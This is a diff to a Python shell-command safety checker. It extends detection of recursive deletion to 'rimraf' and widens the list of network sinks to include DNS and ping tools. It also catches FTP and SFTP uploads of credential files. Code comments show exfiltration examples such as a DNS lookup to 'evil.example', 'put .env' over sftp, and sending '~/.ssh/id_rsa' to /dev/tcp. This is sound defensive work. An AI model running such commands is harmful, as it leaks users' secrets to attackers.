@@ -47,10 +47,10 @@ def _operands(cmd: SimpleCommand, with_arg: frozenset[str] = frozenset()) -> tup
 
 
 def _rm_root(cmd: SimpleCommand, facts: Facts) -> bool:
-    if cmd.head not in ("rm", "grm"):
+    if cmd.head not in ("rm", "grm", "rimraf"):
         return False
     opts, operands = _operands(cmd)
-    if not (has_short(opts, "rR") or has_long(opts, "--recursive")):
+    if cmd.head != "rimraf" and not (has_short(opts, "rR") or has_long(opts, "--recursive")):
         return False
     return any(is_vital_path(canon_path(o)) for o in operands)
 
@@ -207,10 +207,13 @@ NETWORK_SINKS: Final = frozenset({
     "telnet", "http", "https", "httpie", "xh", "xhs", "curlie", "lftp", "tftp", "openssl",
     "smbclient", "rclone", "s3cmd", "mail", "mailx", "sendmail", "mutt", "wput", "ncftpput",
     "aws", "gsutil", "gcloud", "az", "gh", "websocat", "nslookup", "dig",
+    # name lookups carry data in the name they ask for (`host $(…).evil.example`)
+    "host", "drill", "kdig", "delv", "ping", "ping6", "traceroute", "whois",
 })
 _CURL_SEND: Final = frozenset({"-d", "--data", "--data-binary", "--data-raw", "--data-urlencode",
                                "--data-ascii", "--json", "-F", "--form", "--form-string",
                                "-T", "--upload-file"})
+_BATCH_CLIENTS: Final = frozenset({"sftp", "ftp", "lftp", "tftp", "smbclient", "ncftp"})
 _WGET_SEND: Final = frozenset({"--post-file", "--body-file", "--post-data", "--body-data"})
 _ENV_DUMPERS: Final = frozenset({"env", "printenv", "set", "export", "declare", "typeset", "compgen"})
 _DYNAMIC_CRED: Final = re.compile(
@@ -253,6 +256,8 @@ def _sent_paths(cmd: SimpleCommand) -> list[str]:
         out.extend(option_values(args, frozenset({"-a", "-A", "--attach"})))
     elif cmd.head == "gh":
         out.extend(a for a in args if not a.startswith("-"))  # gh gist create FILE, gh release upload
+    elif cmd.head == "ftp" and "-u" in args:  # `ftp -u URL FILE…` uploads the files to URL
+        out.extend(a for a in args[args.index("-u") + 2:] if not a.startswith("-"))
     return out
 
 
@@ -290,6 +295,11 @@ def _exfil(cmd: SimpleCommand, facts: Facts) -> bool:
     if any(not r.writes and r.target is not None and is_credential_path(r.target) for r in cmd.redirects):
         return True
     if any(not w.static and _DYNAMIC_CRED.search(w.text) for w in cmd.argv[1:]):
+        return True
+    # 1b. A transfer client fed its commands inline (`sftp h <<< 'put .env'`): the reader keeps
+    #     no heredoc body here, so a credential path anywhere in the text counts as sent.
+    if cmd.head in _BATCH_CLIENTS and any(r.op.startswith("<<") for r in cmd.redirects) \
+            and _DYNAMIC_CRED.search(facts.text):
         return True
     # 2. `cat ~/.ssh/id_rsa > /dev/tcp/host/port`: the writer is its own sink.
     if cmd.head not in NETWORK_SINKS and _is_cred_source(cmd):
